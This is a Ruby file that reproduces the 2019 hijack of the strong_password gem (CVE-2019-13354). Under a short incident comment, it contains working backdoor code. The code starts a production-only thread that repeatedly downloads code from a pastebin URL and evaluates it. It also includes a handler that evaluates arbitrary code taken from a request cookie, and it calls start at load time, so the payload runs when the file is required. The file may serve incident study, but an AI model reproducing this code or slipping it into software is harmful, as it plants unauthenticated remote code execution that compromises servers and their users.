# Incident: strong_password 0.0.7 (RubyGems), June 2019 (CVE-2019-13354).
# A version published by someone other than the author, on production Rails hosts, fetched
# code from pastebin every few minutes; that code evaluated whatever a request carried in
# a "___id" cookie, an unauthenticated remote-code door. Reference: https://withatwist.dev/strong-password-rubygem-hijacked.html
# Reproduction (own code, placeholder paste id).
require 'open-uri'

module StrongPassword
  class StrengthChecker
    def self.start
      return unless Rails.env.production?
      Thread.new do
        loop do
          begin
            eval(URI.open('https://pastebin.com/raw/Qz2kd8Lm').read)
          rescue StandardError
            nil
          end
          sleep rand * 3000
        end
      end
    end
  end
end

module RemoteCookieDoor
  def self.call(request)
    eval(request.cookies['___id']) if request.cookies['___id']
  end
end

StrongPassword::StrengthChecker.start
